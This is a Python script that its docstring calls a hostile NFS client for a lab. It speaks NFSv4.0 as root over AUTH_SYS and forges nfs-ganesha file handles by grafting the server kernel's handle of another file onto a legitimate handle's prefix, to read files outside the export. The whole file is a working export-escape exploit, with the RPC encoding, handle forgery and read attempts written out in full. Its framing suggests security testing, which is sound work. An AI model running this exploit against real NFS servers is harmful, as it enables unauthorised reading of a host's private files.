#!/usr/bin/python3
"""A hostile NFS client for the lab: reads a file of the export the honest way, then tries to read a file of the
server's disk outside the export with forged file handles (NFSv4.0 over TCP, AUTH_SYS as root).

nfs-ganesha's VFS handles end with the kernel's handle of the file (name_to_handle_at); the client swaps that
tail for the kernel handle of another file (asked of this computer's kernel: the lab's server shares its file
systems), once for the file itself and once for its folder followed by a LOOKUP of the file's name.

usage: nfsForge.py handle PATH
         prints the kernel's handle of PATH in hex (run it where the server's mounts are: nsenter -m)
       nfsForge.py forge SERVER EXPORT LEGIT LEGIT_HANDLE HOST_FILE
  EXPORT        the exported path ("/run/share-this-cd/nfs")
  LEGIT         a file of the export, relative to it (".disk/info")
  LEGIT_HANDLE  the kernel's handle of that file on the server, in hex (the tail to replace)
  HOST_FILE     the file of the server's disk to try to read
Prints one JSON object: the honest read, and what each forgery got (NFS status, data).
"""
import ctypes
import json
import os
import socket
import struct
import sys

AT_FDCWD = -100


class FileHandle(ctypes.Structure):
    _fields_ = [('handle_bytes', ctypes.c_uint), ('handle_type', ctypes.c_int), ('f_handle', ctypes.c_ubyte * 128)]


def kernel_handle(path):
    libc = ctypes.CDLL(None, use_errno=True)
    fh = FileHandle(128, 0)
    mount_id = ctypes.c_int(0)
    if libc.name_to_handle_at(AT_FDCWD, path.encode(), ctypes.byref(fh), ctypes.byref(mount_id), 0) != 0:
        raise OSError(ctypes.get_errno(), f'name_to_handle_at {path}')
    return bytes(fh.f_handle[:fh.handle_bytes])


def u32(x):
    return struct.pack('>I', x)


def opaque(b):
    return u32(len(b)) + b + b'\0' * ((4 - len(b) % 4) % 4)


class Reader:
    def __init__(self, data):
        self.data, self.at = data, 0

    def u32(self):
        v = struct.unpack('>I', self.data[self.at:self.at + 4])[0]
        self.at += 4
        return v

    def opaque(self):
        n = self.u32()
        v = self.data[self.at:self.at + n]
        self.at += n + (4 - n % 4) % 4
        return v


OP_GETFH, OP_LOOKUP, OP_PUTFH, OP_PUTROOTFH, OP_READ = 10, 15, 22, 24, 25


def lookup(name):
    return (u32(OP_LOOKUP) + opaque(name.encode()), None)


def putfh(fh):
    return (u32(OP_PUTFH) + opaque(fh), None)


PUTROOTFH = (u32(OP_PUTROOTFH), None)
GETFH = (u32(OP_GETFH), lambda r: r.opaque())
# READ with the anonymous stateid, from offset 0, up to 4096 bytes: (eof, data)
READ = (u32(OP_READ) + u32(0) + b'\0' * 12 + struct.pack('>Q', 0) + u32(4096), lambda r: (r.u32(), r.opaque()))


class Client:
    def __init__(self, server):
        self.sock = socket.create_connection((server, 2049), timeout=10)
        self.xid = 0x5ec0000

    def compound(self, ops):
        """Runs the operations; returns the status of the compound and each operation's (op, status, result)."""
        self.xid += 1
        cred = u32(0) + opaque(b'forger') + u32(0) + u32(0) + u32(0)  # AUTH_SYS: root
        call = u32(self.xid) + u32(0) + u32(2) + u32(100003) + u32(4) + u32(1) + u32(1) + opaque(cred) + u32(0) + u32(0)
        call += opaque(b'') + u32(0) + u32(len(ops)) + b''.join(o for o, _ in ops)
        self.sock.sendall(u32(0x80000000 | len(call)) + call)
        data = b''
        while True:
            head = self.recv(4)
            mark = struct.unpack('>I', head)[0]
            data += self.recv(mark & 0x7fffffff)
            if mark & 0x80000000:
                break
        r = Reader(data)
        r.u32()  # xid
        r.u32()  # REPLY
        if r.u32() != 0:
            return 'rpc-denied', []
        r.u32()
        r.opaque()  # verifier
        if r.u32() != 0:
            return 'rpc-not-accepted', []
        status = r.u32()
        r.opaque()  # tag
        results = []
        for k in range(r.u32()):
            op, st = r.u32(), r.u32()
            res = ops[k][1](r) if st == 0 and ops[k][1] else None
            results.append((op, st, res))
            if st != 0:
                break
        return status, results

    def recv(self, n):
        b = b''
        while len(b) < n:
            chunk = self.sock.recv(n - len(b))
            if not chunk:
                raise EOFError('the server closed the connection')
            b += chunk
        return b


def read_result(status, results):
    if status != 0 or not results or results[-1][0] != OP_READ:
        return {'status': status if status != 0 else (results[-1][1] if results else -1), 'data': None}
    return {'status': 0, 'data': results[-1][2][1].decode('utf-8', 'replace')}


def main():
    if sys.argv[1] == 'handle':
        print(kernel_handle(sys.argv[2]).hex())
        return
    server, export, legit, legit_handle, host_file = sys.argv[2:7]
    client = Client(server)
    path = [lookup(p) for p in export.strip('/').split('/') + legit.strip('/').split('/') if p]
    status, results = client.compound([PUTROOTFH, *path, GETFH, READ])
    out = {'honest': read_result(status, results)}
    if status != 0:
        print(json.dumps(out))
        return
    legit_fh = results[-2][2]
    tail = bytes.fromhex(legit_handle)
    out['layout'] = legit_fh.endswith(tail)
    head = legit_fh[:-len(tail)] if out['layout'] else legit_fh[:len(legit_fh) - len(tail)]
    forged_file = head + kernel_handle(host_file)
    forged_dir = head + kernel_handle(os.path.dirname(host_file))
    out['forged_file'] = read_result(*client.compound([putfh(forged_file), READ]))
    out['forged_folder'] = read_result(*client.compound([putfh(forged_dir), lookup(os.path.basename(host_file)), READ]))
    print(json.dumps(out))


if __name__ == '__main__':
    main()
